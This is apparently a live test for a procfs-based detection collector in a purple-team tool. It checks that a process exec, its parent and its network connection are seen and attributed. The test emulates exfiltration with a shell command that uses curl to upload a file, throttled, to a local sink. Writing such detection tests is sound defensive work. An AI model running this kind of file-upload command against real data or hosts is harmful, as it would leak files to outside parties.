import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createCommandRunner } from '../../harness/command-runner.js';
import { procfsCollector } from '../../collectors/procfs/collector.js';
import { findExecUnder, makeWorkspace, runEmulation, startSink } from './linux-live-helpers.js';

const runner = createCommandRunner();

describe('procfs collector (live)', async () => {
  const a = await procfsCollector.probe({ runner, hostName: 'test', hostId: 'test-host', isRoot: false, options: {} });
  const skip = process.platform !== 'linux' ? 'not Linux' : !a.available ? `procfs unavailable: ${a.reason ?? ''}` : !(await runner.which('curl')) ? 'curl not installed' : undefined;
  test('sees a slow emulation: exec with args and parent, its connection with process attribution', { skip: skip ?? false }, async () => {
    const sink = await startSink();
    const ws = makeWorkspace();
    const rawDir = mkdtempSync(join(tmpdir(), 'purple-procfs-raw-'));
    try {
      const session = await procfsCollector.start({ runId: 'run-p', rawDir, runner, hostName: 'test', hostId: 'test-host', isRoot: false, options: {} });
      // The sleeps keep each process alive across several polls; procfs cannot promise more.
      const argv = ['sh', '-c', `sleep 0.3; curl -s --data-binary @F --limit-rate 2k http://127.0.0.1:${sink.port}/; sleep 0.3`];
      const w = await runEmulation(argv, ws.dir, 'v-procfs');
      await session.variantDone(w);
      const out = await session.stop();
      assert.equal(sink.received, 1);
      const sh = out.events.find((e) => e.event.category === 'process' && e.process?.pid === w.rootPids[0]);
      assert.ok(sh, 'the root sh is seen');
      // procfs sees the whole host, other tests' processes included: this curl is the sh's child.
      const curl = findExecUnder(out.events, w.rootPids[0], 'curl');
      assert.ok(curl, 'curl exec under the root sh seen');
      assert.deepEqual(curl.process?.args?.slice(0, 3), ['curl', '-s', '--data-binary']);
      const conn = out.events.find((e) => e.event.category === 'network' && e.destination?.port === sink.port);
      assert.ok(conn, 'connection to the sink seen');
      assert.equal(conn.process?.pid, curl.process?.pid);
      assert.equal(conn.process?.entity_id, curl.process?.entity_id);
      assert.equal(conn.destination?.ip, '127.0.0.1');
      for (const e of out.events) assert.equal(e.labels?.purple_variant_id, 'v-procfs');
      assert.ok(out.info.blind_spots.some((b) => /short-lived/.test(b)));
    } finally {
      await sink.close();
      ws.cleanup();
      rmSync(rawDir, { recursive: true, force: true });
    }
  });
});
